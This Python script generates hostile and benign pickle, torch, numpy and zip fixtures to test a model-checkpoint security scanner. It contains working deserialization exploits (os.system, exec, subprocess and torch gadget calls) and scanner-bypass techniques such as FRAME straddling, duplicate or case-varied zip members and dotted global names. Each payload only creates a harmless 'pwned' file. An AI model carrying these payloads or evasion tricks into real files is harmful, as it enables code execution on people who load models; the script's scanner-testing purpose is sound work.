#!/usr/bin/env python3
"""Hostile and benign fixtures for `ckpt scan` (issue 10, "the scanner must never say safe by
saying nothing").

    /tmp/venv/bin/python scripts/make_hostile_fixtures.py            # write + prove
    /tmp/venv/bin/python scripts/make_hostile_fixtures.py --probe-duplicates

Hostile files are built from pickle opcodes written by hand (and, for realistic ones, by
`torch.save` of an object whose `__reduce__` names a dangerous callable). Nothing is executed
while building. Their payload creates a file named `pwned` in the *current directory*
(`touch pwned`, `open('pwned', 'w')` …), so a test that runs ckpt in a fresh temp dir can tell
whether anything ran.

After writing, every fixture marked live is PROVEN live: a subprocess with a fresh temp dir as
its cwd loads it the way its attack targets (`torch.load(weights_only=False)`, `pickle.load`,
`numpy.load(allow_pickle=True)`, reading a zip member …) and the script asserts `pwned`
appeared. A fixture that is not live says why in the manifest (it needs the network, a
registered extension code, a denial of service …); it must still not be called safe.

Techniques come from published bypasses of picklescan / modelscan / fickling (their test
suites and GHSA advisories), torch's `_weights_only_unpickler.py`, CPython's `_pickle.c`
(FRAME handling) and torch's zip reader (miniz: case-insensitive, duplicate names). The
manifest (fixtures/hostile/MANIFEST.json, fixtures/benign/MANIFEST.json) and the README tables
are written from the same list, so they cannot drift.
"""

import argparse
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tempfile
import textwrap
import time
import warnings
import zipfile
from pathlib import Path

warnings.simplefilter("ignore")  # zipfile warns about the duplicate names we write on purpose

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ROOT / "fixtures" / "hostile"
BENIGN = ROOT / "fixtures" / "benign"
CMD = "touch pwned"


# --------------------------------------------------------------------------- opcodes
def proto(n):
    return b"\x80" + bytes([n])


def frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


def glob(module, name):
    """GLOBAL (protocol 0 text form, valid in every protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def u(s):
    """BINUNICODE (protocol 1+)."""
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def su(s):
    """SHORT_BINUNICODE (protocol 4)."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def sg(module, name):
    """STACK_GLOBAL (protocol 4)."""
    return su(module) + su(name) + b"\x93"


def call1(callee, arg):
    """callee(arg) with REDUCE; `callee` and `arg` are opcode bytes pushing one value each."""
    return callee + arg + b"\x85R"  # TUPLE1, REDUCE


def p2(body):
    return proto(2) + body + b"."


def system_call(module="os"):
    return call1(glob(module, "system"), u(CMD))


# --------------------------------------------------------------------------- containers
def zip_bytes(members, compress=None):
    """members: [(name, bytes)] in central directory order (duplicates allowed)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            method = zipfile.ZIP_STORED
            if compress and compress(name):
                method = zipfile.ZIP_DEFLATED
            z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data,
                       compress_type=method)
    return buf.getvalue()


def torch_zip(pkl, root="archive", extra=()):
    """A minimal torch.save-shaped archive around a data.pkl."""
    return zip_bytes([(f"{root}/data.pkl", pkl), *extra, (f"{root}/byteorder", b"little"),
                      (f"{root}/version", b"3\n")])


BENIGN_PKL = pickle.dumps({"epoch": 1, "state_dict": {}}, protocol=2)


def legacy(main, sys_info=None):
    """torch's pre-1.6 stream: magic, protocol, sys_info, the pickle, the storage keys."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    proto_rec = pickle.dumps(1001, protocol=2)
    info = sys_info if sys_info is not None else pickle.dumps(
        {"protocol_version": 1001, "little_endian": True,
         "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    return magic + proto_rec + info + main + pickle.dumps([], protocol=2)


def straddle(payload):
    """A FRAME whose last opcode (BINUNICODE) reaches past its end. torch.load reads the
    string from after the frame (dropping the frame's 5-byte tail) and then runs `payload`;
    a frame-ignoring reader takes the tail as the string's start and then swallows `payload`
    in a BINBYTES. The frame is over 8 KiB so that `pickle.load(open(...))` (whose buffered
    file can only peek 8 KiB) reads it the stream way too."""
    after = b"A" * 11 + b"B" + struct.pack("<I", len(payload))
    pad = b"X" + struct.pack("<I", 9000) + b"p" * 9000 + b"0"  # BINUNICODE + POP
    body = pad + b"(X" + struct.pack("<I", len(after)) + b"tail5"
    return proto(4) + frame(body) + after + payload + b"t."


# --------------------------------------------------------------------------- hostile set
H = []  # (file, what, loader, live_reason_if_not, bytes)


def hostile(name, what, data, loader="pickle", not_live=None, expected="dangerous"):
    H.append(dict(file=name, what=what, loader=loader, not_live=not_live, data=data,
                  expected=expected))


def build_hostile():
    # -- GLOBAL / REDUCE families, every protocol
    hostile("p0_os_system.pkl", "protocol 0: GLOBAL os.system + REDUCE",
            glob("os", "system") + b"(S'" + CMD.encode() + b"'\ntR.")
    hostile("p1_os_system.pkl", "protocol 1: GLOBAL + BINUNICODE + REDUCE",
            glob("os", "system") + b"(" + u(CMD) + b"tR.")
    hostile("p2_posix_system.pkl", "protocol 2: posix.system (what os.system pickles as)",
            p2(system_call("posix")))
    hostile("p4_stack_global.pkl", "protocol 4: STACK_GLOBAL + FRAME",
            proto(4) + frame(call1(sg("os", "system"), su(CMD)) + b"."))
    hostile("p4_stack_global_memo.pkl",
            "STACK_GLOBAL strings memoized (MEMOIZE) and fetched back (BINGET)",
            proto(4) + su("os") + b"\x94" + su("system") + b"\x94" + b"0" + b"0" +
            b"h\x00h\x01\x93" + su(CMD) + b"\x85R.")
    hostile("p0_memoized_callable.pkl",
            "protocol 0: the callable is PUT in the memo, POPped, and fetched with GET",
            glob("os", "system") + b"p0\n0g0\n(S'" + CMD.encode() + b"'\ntR.")
    hostile("p0_builtin_eval_py2.pkl",
            "Python 2 name __builtin__.eval (mapped to builtins by fix_imports)",
            glob("__builtin__", "eval") + b"(S\"__import__('os').system('" + CMD.encode() +
            b"')\"\ntR.")
    hostile("p2_builtins_exec.pkl", "builtins.exec of source text",
            p2(call1(glob("builtins", "exec"), u("open('pwned','w').close()"))))
    hostile("p2_builtins_open.pkl", "builtins.open('pwned', 'w'): no shell at all",
            p2(glob("builtins", "open") + u("pwned") + u("w") + b"\x86R"))
    hostile("p2_io_open.pkl", "io.open('pwned', 'w')",
            p2(glob("io", "open") + u("pwned") + u("w") + b"\x86R"))
    hostile("p2_fileio.pkl", "_io.FileIO('pwned', 'w')",
            p2(glob("_io", "FileIO") + u("pwned") + u("w") + b"\x86R"))
    hostile("p2_getattr_import.pkl",
            "__reduce__ via builtins.getattr(builtins.__import__('os'), 'system')",
            p2(glob("builtins", "getattr") + call1(glob("builtins", "__import__"), u("os")) +
               u("system") + b"\x86R" + u(CMD) + b"\x85R"))
    hostile("p2_attrgetter.pkl", "operator.attrgetter('system')(__import__('os'))",
            p2(call1(call1(glob("operator", "attrgetter"), u("system")),
                     call1(glob("builtins", "__import__"), u("os"))) + u(CMD) + b"\x85R"))
    hostile("p2_methodcaller.pkl", "operator.methodcaller('system', cmd)(os module)",
            p2(glob("operator", "methodcaller") + u("system") + u(CMD) + b"\x86R" +
               call1(glob("builtins", "__import__"), u("os")) + b"\x85R"))
    hostile("p2_functools_partial.pkl", "functools.partial(os.system, cmd)()",
            p2(glob("functools", "partial") + glob("os", "system") + u(CMD) + b"\x86R" +
               b")R"))
    hostile("p2_runpy.pkl", "runpy._run_code(source, {})",
            p2(glob("runpy", "_run_code") + u("open('pwned','w').close()") + b"}" + b"\x86R"))
    hostile("p2_pty_spawn.pkl", "pty.spawn(['touch', 'pwned'])",
            p2(call1(glob("pty", "spawn"), b"]" + b"(" + u("touch") + u("pwned") + b"e")))
    hostile("p2_subprocess_call.pkl", "subprocess.call(['touch', 'pwned'])",
            p2(call1(glob("subprocess", "call"), b"]" + b"(" + u("touch") + u("pwned") + b"e")))
    hostile("p4_newobj_ex_partial.pkl",
            "NEWOBJ_EX functools.partial(subprocess.run, cmd, shell=True), then called",
            proto(4) + sg("functools", "partial") + sg("subprocess", "run") + su(CMD) +
            b"\x86" + b"}" + su("shell") + b"\x88s" + b"\x92" + b")R.")
    hostile("p2_os_popen.pkl", "os.popen(cmd)", p2(call1(glob("os", "popen"), u(CMD))))
    hostile("p2_pydoc_pipepager.pkl", "pydoc.pipepager(text, cmd): a shell command",
            p2(glob("pydoc", "pipepager") + u("x") + u(CMD) + b"\x86R"))
    hostile("p2_timeit.pkl", "timeit.timeit(source, 'pass', perf_counter, 1)",
            p2(glob("timeit", "timeit") + b"(" + u("open('pwned','w').close()") + u("pass") +
               glob("time", "perf_counter") + b"K\x01" + b"tR"))
    hostile("p2_cprofile_run.pkl", "cProfile.run(source)",
            p2(call1(glob("cProfile", "run"), u("open('pwned','w').close()"))))
    hostile("p2_numpy_runstring.pkl", "numpy.testing runstring(source, {})",
            p2(glob("numpy.testing._private.utils", "runstring") +
               u("open('pwned','w').close()") + b"}" + b"\x86R"))
    hostile("p2_numpy_load_inside.pkl", "numpy.load('x.npy', allow_pickle=True) inside",
            p2(glob("numpy", "load") + u("x.npy") + b"\x88" + b"\x86R"),
            not_live="needs an attacker file x.npy beside it")
    hostile("p2_shutil_copy.pkl", "shutil.copyfile('/dev/null', 'pwned')",
            p2(glob("shutil", "copyfile") + u("/dev/null") + u("pwned") + b"\x86R"))
    hostile("p2_nested_pickle_codecs.pkl",
            "pickle.loads(_codecs.encode(latin-1 text, 'latin1')): a nested pickle built "
            "with the allowlisted _codecs.encode",
            p2(call1(glob("pickle", "loads"),
                     glob("_codecs", "encode") + u(p2(system_call()).decode("latin1")) +
                     u("latin1") + b"\x86R")))
    hostile("p2_copyreg_reconstructor.pkl",
            "allowlisted copyreg._reconstructor(Popen, Popen, argv): runs Popen.__init__",
            p2(glob("copyreg", "_reconstructor") + glob("subprocess", "Popen") +
               glob("subprocess", "Popen") + b"]" + b"(" + u("touch") + u("pwned") + b"e" +
               b"\x87R"))
    hostile("p2_list_map.pkl", "builtins.list(builtins.map(os.system, [cmd]))",
            p2(call1(glob("builtins", "list"),
                     glob("builtins", "map") + glob("os", "system") + b"]" + u(CMD) + b"a" +
                     b"\x86R")))
    hostile("p4_dotted_argparse_os.pkl",
            "protocol 4 dotted name: argparse + '_os.system' (an allowlisted module's import)",
            proto(4) + call1(sg("argparse", "_os.system"), su(CMD)) + b".")
    hostile("p4_dotted_pathlib_touch.pkl",
            "protocol 4 dotted name: pathlib 'Path.touch'(Path('pwned'))",
            proto(4) + call1(sg("pathlib", "Path.touch"), call1(sg("pathlib", "Path"),
                                                              su("pwned"))) + b".")
    # -- gadgets inside torch and the standard library (picklescan advisories)
    hostile("p2_pkgutil_resolve_name.pkl",
            "pkgutil.resolve_name('os:system'): any callable from a string (GHSA-vvpj-8cmc-gx39)",
            p2(call1(call1(glob("pkgutil", "resolve_name"), u("os:system")), u(CMD))))
    hostile("p2_importlib_import_module.pkl",
            "getattr(importlib.import_module('os'), 'system')(cmd)",
            p2(glob("builtins", "getattr") + call1(glob("importlib", "import_module"), u("os")) +
               u("system") + b"\x86R" + u(CMD) + b"\x85R"))
    hostile("p2_torch_collect_env_run.pkl",
            "torch.utils.collect_env.run(cmd) (GHSA-f745-w6jp-hpxx)",
            p2(call1(glob("torch.utils.collect_env", "run"), u(CMD))))
    hostile("p2_torch_bottleneck_cprofile.pkl",
            "torch.utils.bottleneck.__main__.run_cprofile(source, {}) (GHSA-4r9r-ch6f-vxmx)",
            p2(glob("torch.utils.bottleneck.__main__", "run_cprofile") +
               u("open('pwned','w').close()") + b"}" + b"\x86R"),
            not_live="torch.utils.bottleneck is gone from torch 2.15 (live with older torch)")
    hostile("p2_torch_datapipes_decoder.pkl",
            "torch datapipes decoder basichandlers('pickle', nested pickle) "
            "(GHSA-h3qp-7fh3-f8h4)",
            p2(glob("torch.utils.data.datapipes.utils.decoder", "basichandlers") + u("pickle") +
               b"C" + bytes([len(p2(system_call()))]) + p2(system_call()) + b"\x86R"))
    hostile("p4_torch_config_module.pkl",
            "protocol 4 dotted ConfigModule.load_config(None, nested pickle) "
            "(GHSA-vv6j-3g6g-2pvj)",
            proto(4) + sg("torch.utils._config_module", "ConfigModule.load_config") + b"N" +
            b"C" + bytes([len(p2(system_call()))]) + p2(system_call()) + b"\x86R.")
    hostile("p4_torch_symbolic_shapes_eval.pkl",
            "protocol 4 dotted ShapeEnv.evaluate_guards_expression(str, source, []) "
            "(GHSA-f4x7-rfwp-v3xw)",
            proto(4) + sg("torch.fx.experimental.symbolic_shapes",
                          "ShapeEnv.evaluate_guards_expression") + sg("builtins", "str") +
            su("open('pwned','w').close()") + b"]" + b"\x87R.")
    # -- stack and text rules where a stricter reader stops and CPython goes on (no PROTO
    #    header: such a reader would call the file "not a pickle")
    pay0 = glob("os", "system") + b"(S'" + CMD.encode() + b"'\ntR."
    hostile("p0_pop_takes_a_mark.pkl", "POP right after MARK removes the MARK (load_pop)",
            b"(0" + pay0)
    hostile("p0_empty_appends_on_none.pkl",
            "APPENDS with nothing after its MARK on a non-list: CPython ignores the target",
            b"N(e0" + pay0)
    hostile("p0_hex_int.pkl", "INT 0x10 (strtol base 0) before the call",
            b"I0x10\n0" + pay0)
    hostile("p0_long_underscores.pkl", "LONG 1_0L (int(s, 0)) before the call",
            b"L1_0L\n0" + pay0)
    # -- opcodes other than REDUCE that call
    hostile("p0_inst.pkl", "INST: protocol 0 class call",
            b"(S'" + CMD.encode() + b"'\nios\nsystem\n.")
    hostile("p1_obj.pkl", "OBJ: callable and args after a MARK",
            b"(" + glob("os", "system") + u(CMD) + b"o.")
    hostile("p2_newobj_popen.pkl", "NEWOBJ subprocess.Popen (only __new__ runs)",
            p2(glob("subprocess", "Popen") + b"]" + b"(" + u("touch") + u("pwned") + b"e" +
               b"\x85\x81"),
            not_live="NEWOBJ calls Popen.__new__ only; the name is still dangerous")
    hostile("p4_newobj_ex.pkl", "NEWOBJ_EX subprocess.Popen with kwargs",
            proto(4) + sg("subprocess", "Popen") + b")" + b"}" + su("args") + su(CMD) + b"s" +
            b"\x92.",
            not_live="NEWOBJ_EX calls __new__ only; the name is still dangerous")
    hostile("p2_build_setstate.pkl",
            "BUILD plants __setstate__=os.system in an allowlisted Namespace's __dict__; a "
            "second BUILD calls it",
            p2(glob("argparse", "Namespace") + b")R" + b"}" + u("__setstate__") +
               glob("os", "system") + b"s" + b"b" + u(CMD) + b"b"))
    for code, op in ((1, b"\x82\x01"), (2, b"\x83\x02\x01"), (4, b"\x84\x03\x02\x01\x00")):
        hostile(f"p2_ext{code}.pkl", f"EXT{code}: a global through the copyreg extension "
                "registry", p2(op + u(CMD) + b"\x85R"),
                not_live="needs copyreg.add_extension in the loading process",
                expected="unknown")
    hostile("p2_persid_hidden_call.pt",
            "torch zip whose persistent id tuple holds an os.system call (it runs while the "
            "tuple is built, before persistent_load)",
            torch_zip(p2(b"(" + u("storage") + system_call() + b"tQ")), loader="torch")
    # -- truncation, sequences
    hostile("truncated_after_call.pkl", "no STOP: os.system runs, then pickle fails at EOF",
            proto(2) + system_call())
    hostile("truncated_zip_member.pt", "data.pkl cut after the call (no STOP)",
            torch_zip(proto(2) + system_call()), loader="torch")
    hostile("second_pickle_after_stop.pkl",
            "a benign pickle, then a hostile one after STOP",
            BENIGN_PKL + p2(system_call()), loader="pickle_all")
    hostile("legacy_main_pickle.pt", "legacy torch stream whose main pickle calls os.system",
            legacy(p2(system_call())), loader="torch")
    hostile("legacy_sys_info.pt", "legacy torch stream with the call in its sys_info record",
            legacy(pickle.dumps({}, protocol=2), sys_info=p2(system_call())), loader="torch")
    hostile("prefixed_zip.pt",
            "a hostile pickle with a benign torch zip appended: zip tools see a zip, "
            "torch.load sees the pickle first",
            p2(system_call()) + torch_zip(BENIGN_PKL), loader="torch")
    # -- torch < 0.1.10 tar checkpoints: torch.load still tries this format first
    hostile("tar_legacy_pickle_member.tar",
            "tar checkpoint (storages, tensors, pickle): the `pickle` member calls os.system",
            tar_bytes([("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
                       ("tensors", pickle.dumps(0, protocol=2)),
                       ("pickle", p2(system_call()))]), loader="torch")
    hostile("tar_legacy_storages_member.tar",
            "tar checkpoint whose `storages` member starts with the os.system pickle",
            tar_bytes([("storages", p2(system_call())), ("tensors", pickle.dumps(0, protocol=2)),
                       ("pickle", BENIGN_PKL)]), loader="torch")
    # -- names that extension filters skip
    for name in ("checkpoint.pth.tar", "model.pt.bak", "weights"):
        hostile(name, f"raw protocol 2 os.system named {name!r}", p2(system_call()))
    hostile("dcp_dir/.metadata", "a DCP .metadata (plain pickle) with os.system",
            p2(system_call()))
    # -- FRAME straddling
    payload = glob("os", "system") + b"(" + u(CMD) + b"tR"
    hostile("frame_straddle.pkl",
            "an opcode straddles a FRAME end: a frame-ignoring reader sees one long string "
            "and misses os.system", straddle(payload), loader="pickle_stream")
    hostile("frame_straddle_zip.pt", "the same as archive/data.pkl of a torch zip",
            torch_zip(straddle(payload)), loader="torch")
    # -- zip container tricks
    evil = p2(system_call())
    hostile("zip_duplicate_data_pkl.pt",
            "two entries archive/data.pkl, benign first; torch's miniz binary search finds "
            "the second (zip tools and most scanners read one of them)",
            zip_bytes([("archive/data.pkl", BENIGN_PKL), ("archive/version", b"3\n"),
                       ("archive/data.pkl", evil), ("archive/byteorder", b"little")]),
            loader="torch")
    hostile("zip_case_data_pkl.pt",
            "archive/DATA.PKL only: miniz looks names up case-insensitively",
            zip_bytes([("archive/version", b"3\n"), ("archive/DATA.PKL", evil),
                       ("archive/byteorder", b"little")]), loader="torch")
    hostile("zip_constants_pkl.pt", "benign data.pkl, hostile constants.pkl",
            torch_zip(BENIGN_PKL, extra=[("archive/constants.pkl", evil)]),
            loader="member:archive/constants.pkl")
    hostile("zip_other_pkl.pt", "benign data.pkl, hostile archive/extra/state.pkl",
            torch_zip(BENIGN_PKL, extra=[("archive/extra/state.pkl", evil)]),
            loader="member:archive/extra/state.pkl")
    hostile("zip_deflated_data_pkl.pt", "data.pkl deflate-compressed (torch reads it)",
            zip_bytes([("archive/data.pkl", evil), ("archive/byteorder", b"little"),
                       ("archive/version", b"3\n")], compress=lambda n: n.endswith(".pkl")),
            loader="torch")
    hostile("zip_nested.zip", "a torch zip inside a zip (inner.pt holds the payload)",
            zip_bytes([("bundle/README", b"weights inside"),
                       ("bundle/inner.pt", torch_zip(evil))]),
            loader="nested:bundle/inner.pt")
    bad_crc = bytearray(torch_zip(evil))
    i = bad_crc.find(b"PK\x01\x02")  # first central directory record: CRC at +16
    bad_crc[i + 16:i + 20] = b"\xde\xad\xbe\xef"
    j = bad_crc.find(b"PK\x03\x04")
    bad_crc[j + 14:j + 18] = b"\xde\xad\xbe\xef"
    hostile("zip_bad_crc.pt", "data.pkl with a wrong CRC-32 (the pickle is intact)",
            bytes(bad_crc), loader="raw_member:archive/data.pkl")
    # zip bomb: 100 MB of zeros inside a deflated data.pkl (not code execution; refused)
    bomb_pkl = proto(2) + b"\x8e" + struct.pack("<Q", 100_000_000) + b"\0" * 100_000_000 + b"."
    hostile("zip_bomb_data_pkl.pt",
            "deflated data.pkl that inflates to 100 MB (over the 32 MiB budget)",
            zip_bytes([("archive/data.pkl", bomb_pkl), ("archive/version", b"3\n")],
                      compress=lambda n: n.endswith(".pkl")),
            not_live="denial of service, not code execution", expected="error")
    # -- numpy
    hostile("object_array.npy", "a .npy with object dtype whose payload calls os.system",
            npy_object(p2(system_call())), loader="numpy")
    hostile("object_array.npz", "an .npz whose arr_0.npy has an object payload",
            zip_bytes([("arr_0.npy", npy_object(p2(system_call())))]), loader="numpy_npz")
    # -- realistic: what torch.save writes for an object with a hostile __reduce__
    hostile("torch_save_reduce.ckpt", "torch.save of a Lightning-like dict whose "
            "hyper_parameters hold an object with __reduce__ = (os.system, (cmd,))",
            torch_save_reduce(), loader="torch")


def tar_bytes(members):
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def npy_object(payload):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def torch_save_reduce():
    import torch

    class Evil:
        def __reduce__(self):
            return (os.system, (CMD,))

    buf = io.BytesIO()
    torch.save({"epoch": 3, "global_step": 6, "state_dict": {"w": torch.zeros(2)},
                "hyper_parameters": {"lr": 0.1, "callback": Evil()}}, buf)
    return buf.getvalue()


# --------------------------------------------------------------------------- benign set
B = []  # (file, what, expected, bytes or callable(path))


def benign(name, what, data, expected="safe"):
    B.append(dict(file=name, what=what, expected=expected, data=data))


def build_benign():
    import argparse as ap
    import numpy as np
    import torch
    from collections import OrderedDict

    value = {"a": [1, 2.5, "x", None, True], "b": (1, 2), "c": b"\x00\xff", "d": {3, 4}}
    for p in range(0, 6):
        benign(f"protocol{p}_values.pkl", f"pickle.dumps of plain values, protocol {p}",
               pickle.dumps(value, protocol=p))
    benign("protocol0_list.pkl", "a protocol 0 list", pickle.dumps([1, 2, 3], protocol=0))
    benign("protocol1_list.pkl", "a protocol 1 list", pickle.dumps(["a", "b"], protocol=1))
    benign("protocol0_ordereddict.pkl", "protocol 0 OrderedDict",
           pickle.dumps(OrderedDict(a=1), protocol=0))
    arr = np.arange(6, dtype=np.float32).reshape(2, 3)
    f = io.BytesIO()
    np.save(f, arr)
    benign("array.npy", "numpy.save of a float array (no objects: no pickle at all)",
           f.getvalue(), expected="no-pickle")
    f = io.BytesIO()
    np.save(f, np.array(["a", 1, None], dtype=object), allow_pickle=True)
    benign("object_strings.npy", "numpy.save of an object array of str/int/None",
           f.getvalue())
    benign("ndarray.pkl", "pickle.dumps of a numpy array",
           pickle.dumps(arr, protocol=2))
    f = io.BytesIO()
    np.savez(f, a=arr, b=np.arange(3))
    benign("arrays.npz", "numpy.savez (a zip of .npy, no objects)", f.getvalue(),
           expected="no-pickle")

    def save(obj, **kw):
        buf = io.BytesIO()
        torch.save(obj, buf, **kw)
        return buf.getvalue()

    sd = OrderedDict(w=torch.arange(4.0), b=torch.zeros(2, dtype=torch.bfloat16))
    benign("namespace_hparams.pt", "torch.save with argparse.Namespace hparams",
           save({"state_dict": sd, "hparams": ap.Namespace(lr=0.1, layers=[2, 3])}))
    try:
        from lightning_fabric.utilities.data import AttributeDict
    except ImportError:
        from pytorch_lightning.utilities.parsing import AttributeDict
    benign("attributedict_hparams.ckpt", "Lightning-shaped dict with AttributeDict hparams",
           save({"epoch": 1, "global_step": 2, "state_dict": sd,
                 "pytorch-lightning_version": "2.0.0",
                 "hyper_parameters": AttributeDict(lr=0.1, name="m")}))
    benign("legacy_format.pt", "torch.save(_use_new_zipfile_serialization=False)",
           save({"state_dict": sd, "epoch": 1}, _use_new_zipfile_serialization=False))
    benign("protocol4_frames.pt", "torch.save(pickle_protocol=4): FRAMEs, none straddled",
           save({"state_dict": sd, "names": ["x" * 70000]}, pickle_protocol=4))
    benign("deflated.pt", "a torch zip rewritten with deflated records (torch reads it)",
           deflate_all(save({"state_dict": sd})))
    benign("config.yaml", "a YAML file that starts like a GLOBAL opcode ('c…')",
           b"callbacks:\n  model_checkpoint:\n    monitor: val/hmean\n", expected="no-pickle")
    benign("notes.txt", "a text file", b"trained on 4 GPUs\n", expected="no-pickle")
    benign("model.safetensors", "a safetensors file", safetensors_bytes(), expected="no-pickle")
    benign("dcp", "a DCP save (torch.distributed.checkpoint) of a small model", dcp_dir)


def deflate_all(data):
    with zipfile.ZipFile(io.BytesIO(data)) as zi:
        members = [(i.filename, zi.read(i.filename)) for i in zi.infolist()]
    return zip_bytes(members, compress=lambda n: True)


def safetensors_bytes():
    import torch
    from safetensors.torch import save

    return save({"w": torch.arange(4.0)})


def dcp_dir(path):
    import torch
    import torch.distributed.checkpoint as dcp

    path.mkdir(parents=True, exist_ok=True)
    model = torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.BatchNorm1d(2))
    dcp.save({"model": model.state_dict()}, checkpoint_id=str(path))


# --------------------------------------------------------------------------- liveness
LOADERS = {
    "pickle": "import pickle\npickle.load(open(P, 'rb'))",
    "pickle_stream": "import pickle, io\npickle.load(io.BytesIO(open(P, 'rb').read()))\n"
                     "import os\nassert os.path.exists('pwned')\nos.remove('pwned')\n"
                     "pickle.load(open(P, 'rb'))",
    "pickle_all": "import pickle\nf = open(P, 'rb')\nwhile True:\n    try:\n"
                  "        pickle.load(f)\n    except EOFError:\n        break",
    "torch": "import torch\ntorch.load(P, weights_only=False)",
    "numpy": "import numpy\nnumpy.load(P, allow_pickle=True)",
    "numpy_npz": "import numpy\nnumpy.load(P, allow_pickle=True)['arr_0']",
}


def loader_code(loader):
    if loader.startswith("member:"):
        m = loader.split(":", 1)[1]
        return f"import pickle, zipfile\npickle.loads(zipfile.ZipFile(P).read({m!r}))"
    if loader.startswith("raw_member:"):
        # zipfile refuses a bad CRC; read the stored bytes by offset, as a CRC-blind reader
        m = loader.split(":", 1)[1]
        return ("import pickle, zipfile, struct\nz = zipfile.ZipFile(P)\n"
                f"i = z.getinfo({m!r})\nd = open(P, 'rb').read()\no = i.header_offset\n"
                "n, e = struct.unpack('<HH', d[o + 26:o + 30])\n"
                "pickle.loads(d[o + 30 + n + e:o + 30 + n + e + i.compress_size])")
    if loader.startswith("nested:"):
        m = loader.split(":", 1)[1]
        return ("import torch, zipfile, io\n"
                f"torch.load(io.BytesIO(zipfile.ZipFile(P).read({m!r})), weights_only=False)")
    return LOADERS[loader]


def prove(path, loader):
    """Load `path` in a subprocess whose cwd is a fresh temp dir; True when `pwned` appears."""
    with tempfile.TemporaryDirectory() as d:
        code = f"P = {str(path)!r}\n" + loader_code(loader)
        subprocess.run([sys.executable, "-c", code], cwd=d, capture_output=True, timeout=120,
                       stdin=subprocess.DEVNULL)
        for _ in range(40):  # Popen/popen/pty finish asynchronously
            if os.path.exists(os.path.join(d, "pwned")):
                return True
            time.sleep(0.05)
        return False


# --------------------------------------------------------------------------- output
def write_all(force=False):
    build_hostile()
    build_benign()
    for d in (HOSTILE, BENIGN):
        d.mkdir(parents=True, exist_ok=True)
    manifest = []
    failures = []
    for h in H:
        p = HOSTILE / h["file"]
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(h["data"])
        live = h["not_live"] is None
        if live and not prove(p, h["loader"]):
            failures.append(h["file"])
        manifest.append(dict(file=h["file"], what=h["what"], loader=h["loader"], live=live,
                             why_not_live=h["not_live"], expected=h["expected"]))
    (HOSTILE / "MANIFEST.json").write_text(json.dumps(manifest, indent=1) + "\n")
    bman = []
    for b in B:
        p = BENIGN / b["file"]
        if p.exists() and not force:
            # torch's legacy format and DCP write ids that change from run to run: keep the
            # committed bytes unless asked.
            pass
        elif callable(b["data"]):
            b["data"](p)
        else:
            p.write_bytes(b["data"])
        bman.append(dict(file=b["file"], what=b["what"], expected=b["expected"]))
    (BENIGN / "MANIFEST.json").write_text(json.dumps(bman, indent=1) + "\n")
    write_readme(manifest, bman)
    live = sum(m["live"] for m in manifest)
    print(f"hostile: {len(manifest)} files, {live} proven live; benign: {len(bman)} entries")
    if failures:
        sys.exit(f"NOT LIVE (payload did not create pwned): {failures}")


def write_readme(manifest, bman):
    lines = [
        "# Hostile and benign fixtures for `ckpt scan`",
        "",
        "Written by `scripts/make_hostile_fixtures.py` (do not edit by hand). Every hostile",
        "payload creates a file named `pwned` in the current directory. *Live* means the",
        "script loaded the file in a fresh temp dir the way the attack targets (the *loader*",
        "column) and saw `pwned` appear. `crates/ckpt/tests/scan_hostile.rs` checks that no",
        "hostile file is called safe, that ckpt never creates `pwned`, and that every benign",
        "file is safe (or `no-pickle` where it holds no pickle at all).",
        "",
        "## Hostile (`fixtures/hostile/`)",
        "",
        "| file | what it does | loader | live | expected verdict |",
        "|---|---|---|---|---|",
    ]
    for m in manifest:
        live = "yes" if m["live"] else f"no: {m['why_not_live']}"
        lines.append(f"| `{m['file']}` | {m['what']} | {m['loader']} | {live} | "
                     f"{m['expected']} |")
    lines += ["", "## Benign (`fixtures/benign/`)", "", "| file | what it is | expected |",
              "|---|---|---|"]
    for b in bman:
        lines.append(f"| `{b['file']}` | {b['what']} | {b['expected']} |")
    lines.append("")
    (HOSTILE / "README.md").write_text("\n".join(lines))
    (BENIGN / "README.md").write_text("See ../hostile/README.md for the table of these "
                                      "files.\n")


def probe_duplicates():
    """Which copy of a duplicated archive/data.pkl torch.load returns, for a range of layouts
    (the cases in crates/ckpt-torch/src/scan_file.rs's lookup test come from this)."""
    import torch

    out = []
    for n_extra in range(0, 12):
        for order in (2, 3):
            tags = ["first", "second", "third"][:order]
            entries = [("archive/version", b"3\n")] + [
                (f"archive/extra{i}", b"x") for i in range(n_extra)]
            for j, t in enumerate(tags):
                entries.insert(min(len(entries), j * (len(entries) // order) + 1),
                               ("archive/data.pkl", pickle.dumps(t, protocol=2)))
            entries.append(("archive/byteorder", b"little"))
            r = torch.load(io.BytesIO(zip_bytes(entries)), weights_only=False)
            idx = [i for i, (n, d) in enumerate(entries)
                   if n == "archive/data.pkl" and pickle.loads(d) == r][0]
            out.append(([n for n, _ in entries], idx))
    print(json.dumps(out))


if __name__ == "__main__":
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--probe-duplicates", action="store_true")
    ap.add_argument("--force", action="store_true", help="rewrite the benign files too")
    a = ap.parse_args()
    if a.probe_duplicates:
        probe_duplicates()
    else:
        write_all(force=a.force)
